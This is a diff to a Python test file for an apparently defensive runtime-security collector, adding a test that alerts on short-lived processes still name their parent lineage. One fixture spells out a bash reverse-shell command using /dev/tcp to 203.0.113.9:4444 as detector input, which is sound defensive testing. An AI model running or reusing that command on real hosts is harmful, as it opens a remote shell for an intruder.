@@ -10,7 +10,7 @@ from collector.alerts.clock import Clock
 from collector.pipeline import Pipeline
 from tests.collector.detect.protocols.test_stratum import XMRIG_LOGIN
 from tests.collector.test_pipeline import CID, CLOCK, CONTAINER_TREE, ListSink, _run
-from tests.factories import cgroup_event, exec_event, payload_event, proc_event
+from tests.factories import cgroup_event, exec_event, payload_event, proc_event, stdio_event
 
 
 def test_alert_schema() -> None:
@@ -123,3 +123,17 @@ def test_a_finding_may_carry_its_own_severity() -> None:
         "low",
         RULE.severity.value,
     )
+
+
+def test_a_process_never_seen_names_its_parent_line() -> None:
+    """A fork that came and went (no exec, gone before /proc was read) still gets its parent's lineage."""
+    events = [
+        proc_event(1, 0, ("/sbin/init",), cgroup_id=1),
+        proc_event(10, 1, ("bash", "-c", "exec 5<>/dev/tcp/203.0.113.9/4444; ..."), cgroup_id=1),
+        stdio_event("012", pid=11, ppid=10, cgroup_id=1, comm="bash"),
+    ]
+    table_events = [*events[:2], exec_event(["bash"], exe="/usr/bin/bash", pid=11, ppid=10, cgroup_id=1)]
+    _, seen = _run([*table_events, events[2]])  # known: the usual lineage
+    _, unseen = _run(events)  # never seen: its record's parent
+    assert [a["pid"] for a in unseen.alerts[0]["ancestors"]] == [10, 1]
+    assert [a["pid"] for a in seen.alerts[0]["ancestors"]] == [10, 1]
